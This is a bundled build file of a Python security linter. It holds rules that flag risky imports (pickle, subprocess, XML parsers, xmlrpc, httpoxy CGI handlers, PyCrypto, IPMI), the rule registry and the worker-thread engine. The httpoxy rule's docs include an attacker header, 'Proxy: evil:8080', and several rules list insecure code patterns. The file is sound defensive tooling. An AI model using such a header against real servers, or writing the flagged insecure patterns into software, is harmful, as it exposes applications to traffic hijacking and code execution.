          why: "FTP has no encryption; the login and every file cross the network readable by anyone on the path. FTP_TLS, from the same module, is the encrypted variant: a file that uses it is not reported here (a plain FTP() call in it still is, by ftp-call).",
          bad: ["import ftplib\n", "from ftplib import FTP\n"],
          good: ["import paramiko\n", 'import ftplib\nftp = ftplib.FTP_TLS("ftp.example.com")\nftp.login(user, password)\nftp.prot_p()\n'],
          references: ["https://cwe.mitre.org/data/definitions/319.html"]
        }
      },
      {
        id: "import-pickle",
        aliases: ["B403", "S403", "import_pickle"],
        category: "deserialization",
        cwe: 502,
        severity: "low",
        confidence: "high",
        recommended: false,
        modules: ["pickle", "cPickle", "_pickle", "dill", "shelve"],
        message: "pickle-based module imported: loading untrusted pickles executes code",
        fix: "Prefer json or another data-only format for anything that crosses a trust boundary.",
        docs: {
          why: "pickle, dill and shelve deserialise by running code named in the data. The import is a reminder; pickle-load reports the loads.",
          bad: ["import pickle\n", "import pickle as p\n", 'import importlib\ncodec = importlib.import_module("pickle")\n'],
          good: ["import json\n", "import pickletools\n"],
          references: ["https://docs.python.org/3/library/pickle.html"]
        }
      },
      {
        id: "import-subprocess",
        aliases: ["B404", "S404", "import_subprocess"],
        category: "command-injection",
        cwe: 78,
        severity: "low",
        confidence: "high",
        recommended: false,
        modules: ["subprocess"],
        message: "subprocess imported: review how commands are built",
        fix: "Nothing to change for the import itself; pass argument lists (not strings) and avoid shell=True.",
        docs: {
          why: "Running processes is where command injection happens. The import is a reminder; the subprocess rules report the risky calls.",
          bad: ["import subprocess\n", "from subprocess import run\n"],
          good: ["import shlex\n"],
          references: ["https://docs.python.org/3/library/subprocess.html#security-considerations"]
        }
      },
      xmlImportRow("import-xml-etree", "B405", "S405", "import_xml_etree", ["xml.etree.cElementTree", "xml.etree.ElementTree"], "import xml.etree.ElementTree as ET\n", "import defusedxml.ElementTree as ET\n"),
      // `xml.sax.saxutils` (escape/quoteattr/XMLGenerator) writes XML and never parses it: not flagged (Bandit does).
      xmlImportRow("import-xml-sax", "B406", "S406", "import_xml_sax", ["xml.sax"], "import xml.sax\n", "from xml.sax.saxutils import escape\n", ["xml.sax.saxutils"]),
      xmlImportRow("import-xml-expat", "B407", "S407", "import_xml_expat", ["xml.dom.expatbuilder"], "import xml.dom.expatbuilder\n", "import defusedxml.expatbuilder\n"),
      xmlImportRow("import-xml-minidom", "B408", "S408", "import_xml_minidom", ["xml.dom.minidom"], "from xml.dom import minidom\n", "import defusedxml.minidom\n"),
      xmlImportRow("import-xml-pulldom", "B409", "S409", "import_xml_pulldom", ["xml.dom.pulldom"], "from xml.dom import pulldom\n", "import defusedxml.pulldom\n"),
      {
        id: "import-xmlrpc",
        aliases: ["B411", "S411", "import_xmlrpclib"],
        category: "xxe",
        cwe: 20,
        severity: "high",
        confidence: "high",
        modules: ["xmlrpc", "xmlrpclib", "SimpleXMLRPCServer"],
        message: "xmlrpc parses XML from the network with the vulnerable stdlib parser",
        fix: "Call defusedxml.xmlrpc.monkey_patch() before using xmlrpc, or use a JSON-based RPC.",
        docs: {
          why: "xmlrpc.client and xmlrpc.server parse whatever XML the peer sends with expat: a malicious peer can exhaust memory with entity expansion or a decompression bomb.",
          bad: ["import xmlrpc.client\n", "from xmlrpc.server import SimpleXMLRPCServer\n"],
          good: ["import json\n"],
          references: ["https://docs.python.org/3/library/xmlrpc.html", "https://pypi.org/project/defusedxml/"]
        }
      },
      {
        id: "import-httpoxy",
        aliases: ["B412", "S412", "import_httpoxy"],
        category: "insecure-config",
        cwe: 284,
        severity: "high",
        confidence: "high",
        modules: ["wsgiref.handlers.CGIHandler", "twisted.web.twcgi.CGIScript", "twisted.web.twcgi.CGIDirectory"],
        message: "CGI handler exposes the application to httpoxy (the Proxy request header becomes HTTP_PROXY)",
        fix: "Serve the application with a WSGI server instead of CGI, or strip the Proxy header before the application runs.",
        docs: {
          why: "Under CGI, a request header `Proxy: evil:8080` becomes the environment variable HTTP_PROXY, which HTTP client libraries use as their proxy: outgoing requests of the application are sent to the attacker.",
          bad: ["from wsgiref.handlers import CGIHandler\n", "import wsgiref.handlers\nwsgiref.handlers.CGIHandler().run(app)\n"],
          good: ["from wsgiref.simple_server import make_server\n"],
          references: ["https://httpoxy.org/", "https://cwe.mitre.org/data/definitions/284.html"]
        }
      },
      {
        // Confidence low (Bandit: high): PyCryptodome installs under the same `Crypto` package as a drop-in
        // replacement, so the import alone does not prove the unmaintained PyCrypto is used; this keeps it from
        // blocking commits while still listing it.
        id: "import-pycrypto",
        aliases: ["B413", "S413", "import_pycrypto"],
        category: "weak-crypto",
        cwe: 327,
        severity: "high",
        confidence: "low",
        modules: ["Crypto.Cipher", "Crypto.Hash", "Crypto.IO", "Crypto.Protocol", "Crypto.PublicKey", "Crypto.Random", "Crypto.Signature", "Crypto.Util"],
        // Modes, modules and methods PyCrypto 2.6 never had: a file using them runs on PyCryptodome.
        notWhenSourceShows: /\bMODE_(?:GCM|EAX|SIV|OCB|CCM)\b|\bCrypto\.Util\.Padding\b|\b(?:encrypt_and_digest|decrypt_and_verify)\b|\bChaCha20|\bSalsa20\b|\bCrypto\.PublicKey\s+import\s+(?:[\w\s,]*\b)?ECC\b|\bCrypto\.Signature\s+import\s+(?:[\w\s,]*\b)?(?:pkcs1_15|pss|DSS|eddsa)\b|\bSHA3_\d|\bBLAKE2[bs]\b/,
        message: "PyCrypto is unmaintained and has known vulnerabilities (unless this is PyCryptodome's drop-in `Crypto` package)",
        fix: "Use the cryptography package, or PyCryptodome (preferably as `Cryptodome`).",
        docs: {
          why: "PyCrypto has had no release since 2013 and carries known vulnerabilities (e.g. CVE-2013-7459, a heap overflow in AES.new). A file that uses what only PyCryptodome has (GCM/EAX/SIV/OCB/CCM modes, Crypto.Util.Padding, ChaCha20, ECC, pkcs1_15/pss signatures, SHA-3, BLAKE2) is not reported.",
          bad: ["from Crypto.Cipher import AES\n"],
          good: [
            "from Cryptodome.Cipher import AES\n",
            "from cryptography.fernet import Fernet\n",
            "from Crypto.Cipher import AES  # PyCryptodome: PyCrypto has no GCM\ncipher = AES.new(key, AES.MODE_GCM)\n"
          ],
          references: ["https://github.com/pycrypto/pycrypto/issues/176", "https://cwe.mitre.org/data/definitions/327.html"]
        }
      },
      {
        id: "import-pyghmi",
        aliases: ["B415", "S415", "import_pyghmi"],
        category: "insecure-transport",
        cwe: 319,
        severity: "high",
        confidence: "high",
        modules: ["pyghmi"],
        message: "pyghmi speaks IPMI, whose authentication and encryption are weak",
        fix: "Manage servers over Redfish (HTTPS) or isolate IPMI on a dedicated management network.",
        docs: {
          why: "IPMI 2.0 leaks password hashes to any client (RAKP) and its cipher suites are weak; IPMI traffic should never cross an untrusted network.",
          bad: ["from pyghmi.ipmi import command\n"],
          good: ["import redfish\n"],
          references: ["https://cwe.mitre.org/data/definitions/319.html"]
        }
      }
    ];
    DANGEROUS_IMPORT_RULES = ROWS2.map(importTableRule);
  }
});

// dist/rules/index.js
var rules_exports = {};
__export(rules_exports, {
  RULES: () => RULES,
  findRule: () => findRule
});
function findRule(name) {
  return byName.get(name) ?? byName.get(name.toUpperCase());
}
var RULES, byName;
var init_rules = __esm({
  "dist/rules/index.js"() {
    "use strict";
    init_exec_used();
    init_subprocess_shell_true();
    init_sql_injection();
    init_assert_used();
    init_logging_config_listen();
    init_call_with_shell_true();
    init_paramiko_exec_command();
    init_start_process_partial_path();
    init_start_process_with_shell();
    init_start_process_without_shell();
    init_subprocess_without_shell();
    init_wildcard_injection();
    init_shell_wrapper_unsafe();
    init_torch_load();
    init_try_except_continue();
    init_try_except_pass();
    init_hardcoded_password_default();
    init_hardcoded_password_funcarg();
    init_hardcoded_password_string();
    init_hardcoded_provider_secret();
    init_hardcoded_high_entropy_secret();
    init_flask_hardcoded_secret_key();
    init_jwt_hardcoded_secret();
    init_hashids_salted_with_secret_key();
    init_bad_file_permissions();
    init_bind_all_interfaces();
    init_flask_debug_true();
    init_hardcoded_tmp_directory();
    init_request_without_timeout();
    init_huggingface_unsafe_download();
    init_trojan_source();
    init_tarfile_unsafe_members();
    init_django_extra();
    init_django_rawsql();
    init_django_mark_safe();
    init_jinja2_autoescape_false();
    init_mako_templates();
    init_markupsafe_markup_xss();
    init_unsafe_yaml_load();
    init_requests_verify_false();
    init_snmp_insecure_version();
    init_snmp_weak_crypto();
    init_ssh_no_host_key_verification();
    init_ssl_bad_defaults();
    init_ssl_bad_version();
    init_ssl_no_version();
    init_unverified_ssl_context();
    init_cleartext_http_request();
    init_smtp_login_without_starttls();
    init_certificate_checks_disabled();
    init_insecure_hashlib();
    init_weak_crypto_key();
    init_static_iv_or_salt();
    init_password_hash_without_kdf();
    init_syntax_error();
    init_csrf_exempt();
    init_flask_wtf_csrf_disabled();
    init_django_hardcoded_secret_key();
    init_django_allowed_hosts_wildcard();
    init_django_debug_true();
    init_django_insecure_cookie();
    init_insecure_cookie_flags();
    init_trust_boundary_violation();
    init_flask_insecure_cookie_config();
    init_pyramid_insecure_cookie();
    init_os_permissive_umask();
    init_ssl_default_context_unverified();
    init_urllib3_warnings_disabled();
    init_archive_extraction();
    init_jwt_verify_disabled();
    init_weak_random();
    init_django_format_html_misuse();
    init_xml_entity_resolution();
    init_ldap_injection();
    init_eval_used();
    init_pickle_load();
    init_marshal_load();
    init_xml_parsers();
    init_open_redirect();
    init_path_traversal_request();
    init_ssrf();
    init_template_injection();
    init_xss_response_from_request();
    init_xpath_injection();
    init_nosql_injection();
    init_header_injection();
    init_regex_injection();
    init_mass_assignment();
    init_nan_injection();
    init_dynamic_dispatch();
    init_sh_command_injection();
    init_airflow_bash_command_injection();
    init_render_template_unescaped();
    init_template_context_locals();
    init_twiml_injection();
    init_django_expression_template();
    init_dangerous_calls();
    init_dangerous_imports();
    RULES = [
      exec_used_default,
      subprocess_shell_true_default,
      sql_injection_default,
      assert_used_default,
      logging_config_listen_default,
      call_with_shell_true_default,
      paramiko_exec_command_default,
      start_process_partial_path_default,
      start_process_with_shell_default,
      start_process_without_shell_default,
      subprocess_without_shell_default,
      wildcard_injection_default,
      shell_wrapper_unsafe_default,
      torch_load_default,
      try_except_continue_default,
      try_except_pass_default,
      hardcoded_password_default_default,
      hardcoded_password_funcarg_default,
      hardcoded_password_string_default,
      hardcoded_provider_secret_default,
      hardcoded_high_entropy_secret_default,
      flask_hardcoded_secret_key_default,
      jwt_hardcoded_secret_default,
      hashids_salted_with_secret_key_default,
      bad_file_permissions_default,
      bind_all_interfaces_default,
      flask_debug_true_default,
      hardcoded_tmp_directory_default,
      request_without_timeout_default,
      huggingface_unsafe_download_default,
      trojan_source_default,
      tarfile_unsafe_members_default,
      django_extra_default,
      django_rawsql_default,
      django_mark_safe_default,
      jinja2_autoescape_false_default,
      mako_templates_default,
      markupsafe_markup_xss_default,
      unsafe_yaml_load_default,
      requests_verify_false_default,
      snmp_insecure_version_default,
      snmp_weak_crypto_default,
      ssh_no_host_key_verification_default,
      ssl_bad_defaults_default,
      ssl_bad_version_default,
      ssl_no_version_default,
      unverified_ssl_context_default,
      cleartext_http_request_default,
      smtp_login_without_starttls_default,
      certificate_checks_disabled_default,
      insecure_hashlib_default,
      weak_crypto_key_default,
      static_iv_or_salt_default,
      password_hash_without_kdf_default,
      syntax_error_default,
      csrf_exempt_default,
      flask_wtf_csrf_disabled_default,
      django_hardcoded_secret_key_default,
      django_allowed_hosts_wildcard_default,
      django_debug_true_default,
      django_insecure_cookie_default,
      insecure_cookie_flags_default,
      trust_boundary_violation_default,
      flask_insecure_cookie_config_default,
      pyramid_insecure_cookie_default,
      os_permissive_umask_default,
      ssl_default_context_unverified_default,
      urllib3_warnings_disabled_default,
      archive_extraction_default,
      jwt_verify_disabled_default,
      weak_random_default,
      django_format_html_misuse_default,
      xml_entity_resolution_default,
      ldap_injection_default,
      open_redirect_default,
      path_traversal_request_default,
      ssrf_default,
      template_injection_default,
      xss_response_from_request_default,
      xpath_injection_default,
      django_expression_template_default,
      twiml_injection_default,
      template_context_locals_default,
      render_template_unescaped_default,
      airflow_bash_command_injection_default,
      sh_command_injection_default,
      dynamic_dispatch_default,
      nan_injection_default,
      mass_assignment_default,
      regex_injection_default,
      header_injection_default,
      nosql_injection_default,
      eval_used_default,
      pickle_load_default,
      marshal_load_default,
      ...XML_PARSER_RULES,
      ...DANGEROUS_CALL_RULES,
      ...DANGEROUS_IMPORT_RULES
      // Code-unit order (ids are lower-case ASCII): localeCompare's first call loads the ICU collator, ~8 ms of start-up.
    ].sort((a, b) => a.id < b.id ? -1 : a.id > b.id ? 1 : 0);
    byName = /* @__PURE__ */ new Map();
    for (const rule of RULES) {
      byName.set(rule.id, rule);
      for (const alias of rule.aliases)
        byName.set(alias.toUpperCase(), rule);
    }
  }
});

// dist/engine/workers.js
var workers_exports = {};
__export(workers_exports, {
  analyseInWorkers: () => analyseInWorkers,
  startWorkers: () => startWorkers
});
module.exports = __toCommonJS(workers_exports);
function switchOffOptimiser() {
  (0, import_v8_flags2.setV8Flag)("--no-opt");
}
function stopRequested() {
  return Atomics.load(new Int32Array(stopFlag), 0) !== 0;
}
function stopWorkers() {
  Atomics.store(new Int32Array(stopFlag), 0, 1);
  const waits = [...liveWorkers].map((worker) => new Promise((resolve) => {
    worker.once("exit", () => resolve());
    setTimeout(resolve, STOP_WAIT_MS).unref();
  }));
  return Promise.all(waits).then(() => void 0);
}
function track(worker) {
  if (!stopperRegistered) {
    stopperRegistered = true;
    stopOnInterrupt(stopWorkers);
  }
  liveWorkers.add(worker);
  worker.once("exit", () => liveWorkers.delete(worker));
  return worker;
}
function startWorkers(rules, count, limits = {}) {
  switchOffOptimiser();
  const started = { workers: [], ready: /* @__PURE__ */ new Set() };
  const setup = workerSetup(rules, limits);
  for (let slot = 0; slot < count; slot++) {
    const worker = spawnWorker(setup);
    worker.on("error", (error) => {
      started.problem ??= new Error(`an analysis worker thread crashed: ${error.message}`);
    });
    worker.on("exit", (code) => {
      started.problem ??= new Error(`an analysis worker thread exited early (code ${code})`);
    });
    worker.on("message", (message) => {
      if ("ready" in message)
        started.ready.add(worker);
    });
    started.workers.push(worker);
  }
  return started;
}
function spawnWorker(setup) {
  return track(new threads.Worker(packagePath("dist", "worker-bundle.cjs"), {
    workerData: setup,
    resourceLimits: { maxYoungGenerationSizeMb: WORKER_YOUNG_GENERATION_MB }
  }));
}
function workerSetup(rules, limits) {
  return {
    role: WORKER_ROLE,
    rules: rules.map(({ rule, options }) => ({ id: rule.id, options: { ...options } })),
    limits: { ...limits },
    collectRuleTimes: activeRuleTimes() !== void 0,
    stop: stopFlag
  };
}
async function analyseInWorkers(contents, rules, workerCount, onOutcome, limits = {}, started) {
  switchOffOptimiser();
  const order = contents.map((_, index) => index).sort((a, b) => contents[b].length - contents[a].length || a - b);
  const outcomes = new Array(contents.length);
  const times = activeRuleTimes();
  const setup = workerSetup(rules, limits);
  const count = Math.max(1, Math.min(workerCount, contents.length));
  const workers = started ? [...started.workers] : [];
  const ready = new Set(started?.ready);
  const given = /* @__PURE__ */ new Set();
  let next = 0;
  let last = order.length - 1;
  let done = 0;
  try {
    if (started?.problem)
      throw started.problem;
    await new Promise((resolveAll, rejectAll) => {
      let failed = false;
      const finished = /* @__PURE__ */ new Set();
      const fail = (error) => {
        if (failed || stopRequested())
          return;
        failed = true;
        rejectAll(error);
      };
      const feed = (worker) => {
        if (next <= last && ready.has(worker)) {
          given.add(worker);
          const index = order[next++];
          worker.postMessage({ index, bytes: contents[index] });
        }
      };
      const maybeFinish = () => {
        if (done < contents.length)
          return;
        for (const worker of workers) {
          if (given.has(worker)) {
            worker.postMessage({ finish: true });
          } else {
            finished.add(worker);
            void worker.terminate();
          }
        }
        if (finished.size === workers.length)
          resolveAll();
      };
      const record2 = (index, outcome) => {
        outcomes[index] = outcome;
        done++;
        try {
          onOutcome?.(index, outcome);
        } catch (error) {
          fail(error);
          return false;
        }
        return true;
      };
      const ownFirst = next <= last ? order[last--] : void 0;
      if (!started) {
        for (let slot = 1; slot < count; slot++)
          workers.push(spawnWorker(setup));
      }
      for (const worker of workers) {
        worker.on("message", (message) => {
          if ("ready" in message) {
            ready.add(worker);
            for (let round = 0; round < IN_FLIGHT; round++)
              feed(worker);
            return;
          }
          if ("finished" in message) {
            for (const [rule, ms] of message.ruleTimes ?? [])
              times?.set(rule, (times.get(rule) ?? 0) + ms);
            finished.add(worker);
            if (finished.size === workers.length)
              resolveAll();
            return;
          }
          if ("crash" in message) {
            fail(new Error(`analysis failed in a worker thread (file #${message.index + 1}): ${message.crash}`));
            return;
          }
          if (!record2(message.index, message.outcome))
            return;
          feed(worker);
          maybeFinish();
        });
        worker.on("error", (error) => fail(new Error(`an analysis worker thread crashed: ${error.message}`)));
        worker.on("exit", (code) => {
          if (!finished.has(worker))
            fail(new Error(`an analysis worker thread exited early (code ${code})`));
        });
      }
      for (let round = 0; round < IN_FLIGHT; round++)
        for (const worker of workers)
          feed(worker);
      void analyseHere(ownFirst).catch((error) => fail(error));
      async function analyseHere(first) {
        let sinceRelease = 0;
        for (let index = first; index !== void 0 && !failed && !stopRequested(); index = next <= last ? order[last--] : void 0) {
          if (!record2(index, analyseContent(contents[index], rules, limits)))
            return;
          maybeFinish();
          sinceRelease += contents[index].length;
          if (sinceRelease >= RELEASE_EVERY_BYTES) {
            sinceRelease = 0;
            await releaseTrees();
          } else {
            await new Promise((resolve) => setImmediate(resolve));
          }
        }
      }
    });
  } finally {
    await Promise.all(workers.map((worker) => worker.terminate()));
  }
  return outcomes;
}
async function serveAnalyses(setup) {
  const port = threads.parentPort;
  const { findRule: findRule2 } = await Promise.resolve().then(() => (init_rules(), rules_exports));
  const rules = setup.rules.map(({ id, options }) => {
    const rule = findRule2(id);
    if (!rule)
      throw new Error(`rule '${id}' is not in the worker's registry`);
    return { rule, options };
  });
  const times = setup.collectRuleTimes ? collectRuleTimes() : void 0;
  const stop = new Int32Array(setup.stop);
  const stopping = () => Atomics.load(stop, 0) !== 0;
  const limits = { ...setup.limits, interrupted: stopping };
  let sinceRelease = 0;
  const queue = [];
  let busy = false;
  const drain = async () => {
    if (busy)
      return;
    busy = true;
    while (queue.length > 0) {
      if (stopping()) {
        port.close();
        return;
      }
      const message = queue.shift();
      if ("finish" in message) {
        port.postMessage({ finished: true, ruleTimes: times ? [...times] : void 0 });
        port.close();
        return;
      }
      try {
        port.postMessage({ index: message.index, outcome: analyseContent(message.bytes, rules, limits) });
      } catch (error) {
        port.postMessage({ index: message.index, crash: error instanceof Error ? error.message : String(error) });
      }
      sinceRelease += message.bytes.length;
      if (sinceRelease >= RELEASE_EVERY_BYTES) {
        sinceRelease = 0;
        await releaseTrees();
      }
    }
    busy = false;
  };
  port.on("message", (message) => {
    queue.push(message);
    void drain();
  });
  port.postMessage({ ready: true });
}
var import_node_module3, import_v8_flags2, require4, threads, WORKER_ROLE, IN_FLIGHT, WORKER_YOUNG_GENERATION_MB, stopFlag, liveWorkers, STOP_WAIT_MS, stopperRegistered;
var init_workers = __esm({
  "dist/engine/workers.js"() {
    import_node_module3 = require("node:module");
    init_review_files();
    init_parser();
    init_walk();
    init_package_root();
    init_interrupt();
    import_v8_flags2 = __toESM(require_v8_flags(), 1);
    require4 = (0, import_node_module3.createRequire)(__bundle_url);
    threads = require4("node:worker_threads");
    WORKER_ROLE = "git-review-security/analysis";
    IN_FLIGHT = 3;
    WORKER_YOUNG_GENERATION_MB = 6;
    stopFlag = new SharedArrayBuffer(4);
    liveWorkers = /* @__PURE__ */ new Set();
    STOP_WAIT_MS = 1e4;
    stopperRegistered = false;
    if (!threads.isMainThread && threads.workerData?.role === WORKER_ROLE) {
      serveAnalyses(threads.workerData).catch((error) => {
        throw error;
      });
    }
  }
});
init_workers();
// Annotate the CommonJS export names for ESM import in node:
0 && (module.exports = {
  analyseInWorkers,
  startWorkers
});
